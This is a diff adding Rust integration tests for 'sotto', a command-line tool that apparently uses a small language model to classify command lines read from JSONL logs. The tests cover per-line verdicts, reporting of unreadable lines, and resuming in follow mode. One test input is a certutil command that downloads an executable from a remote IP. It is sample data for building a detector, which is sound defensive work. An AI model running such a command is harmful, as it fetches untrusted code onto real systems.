@@ -81,3 +81,104 @@ fn bad_input_gets_a_message_naming_the_problem() {
         assert!(stderr(&out).contains(expected), "{args:?}: {}", stderr(&out));
     }
 }
+
+fn analyze(args: &[&str], input: &str, state: &std::path::Path) -> Output {
+    use std::io::Write;
+    let mut child = Command::new(env!("CARGO_BIN_EXE_sotto"))
+        .args(["analyze", "--model", "smollm2-135m", "--mode", "constrained-zero-shot", "--set", "cache.persist=false"])
+        .args(args)
+        .env("SOTTO_MODELS", real_models())
+        .env("XDG_STATE_HOME", state)
+        .env("XDG_CONFIG_HOME", state)
+        .env_remove("RUST_LOG")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn analyze_writes_a_verdict_per_line_and_names_unreadable_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = "{\"command_line\": \"certutil -urlcache -f http://203.0.113.5/a.exe a.exe\", \"os\": \"windows\"}\n\
+                 {\"process\": {\"pid\": 4}}\n";
+    let out = analyze(&[], input, dir.path());
+    assert!(!out.status.success(), "an unreadable line makes the exit status non-zero");
+    let lines: Vec<serde_json::Value> =
+        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(lines.len(), 2, "nothing is lost: {lines:?}");
+    assert_eq!(lines[0]["line"], 1);
+    assert!(lines[0]["verdict"].is_string(), "{}", lines[0]);
+    assert_eq!(lines[1]["line"], 2);
+    assert!(lines[1]["error"].as_str().unwrap().contains("command_line"), "{}", lines[1]);
+    assert!(stderr(&out).contains("line 2:"), "{}", stderr(&out));
+}
+
+#[test]
+fn analyze_follow_resumes_after_a_restart_without_repeating() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("events.jsonl");
+    std::fs::write(&log, "{\"command_line\": \"whoami\"}\n").unwrap();
+    // Run a follower, wait until it has followed the file and written `expected` verdicts, stop
+    // it with SIGTERM, and return everything it wrote (a line in progress is finished first).
+    let run_until = |expected: usize| {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_sotto"))
+            .args(["analyze", "--follow", "--model", "smollm2-135m", "--mode", "constrained-zero-shot"])
+            .args(["--set", "cache.persist=false"])
+            .arg(&log)
+            .env("SOTTO_MODELS", real_models())
+            .env("XDG_STATE_HOME", dir.path())
+            .env("XDG_CONFIG_HOME", dir.path())
+            .env_remove("RUST_LOG")
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let stderr = std::io::BufReader::new(child.stderr.take().unwrap());
+        let (tx, rx) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            for l in std::io::BufRead::lines(stderr).map_while(Result::ok) {
+                if l.contains("following") {
+                    let _ = tx.send(());
+                }
+            }
+        });
+        rx.recv_timeout(std::time::Duration::from_secs(120)).expect("the follower starts");
+        let mut reader = std::io::BufReader::new(child.stdout.take().unwrap());
+        let mut lines = Vec::new();
+        let mut read = |lines: &mut Vec<serde_json::Value>| {
+            let mut l = String::new();
+            let n = std::io::BufRead::read_line(&mut reader, &mut l).unwrap();
+            if n > 0 {
+                lines.push(serde_json::from_str::<serde_json::Value>(&l).unwrap());
+            }
+            n > 0
+        };
+        while lines.len() < expected {
+            assert!(read(&mut lines), "sotto stopped early");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+        while read(&mut lines) {}
+        let status = child.wait().unwrap();
+        assert!(status.success(), "{status:?}");
+        lines
+    };
+    let first = run_until(1);
+    assert_eq!(first.len(), 1);
+    assert_eq!(first[0]["line"], 1);
+    std::fs::OpenOptions::new()
+        .append(true)
+        .open(&log)
+        .and_then(|mut f| std::io::Write::write_all(&mut f, b"{\"command_line\": \"id -a\"}\n"))
+        .unwrap();
+    // The restarted follower starts after the first line: only the new one is analysed.
+    let second = run_until(1);
+    assert_eq!(second.len(), 1, "{second:?}");
+    assert!(second[0]["verdict"].is_string(), "{}", second[0]);
+    let again = run_until(0);
+    assert!(again.is_empty());
+}
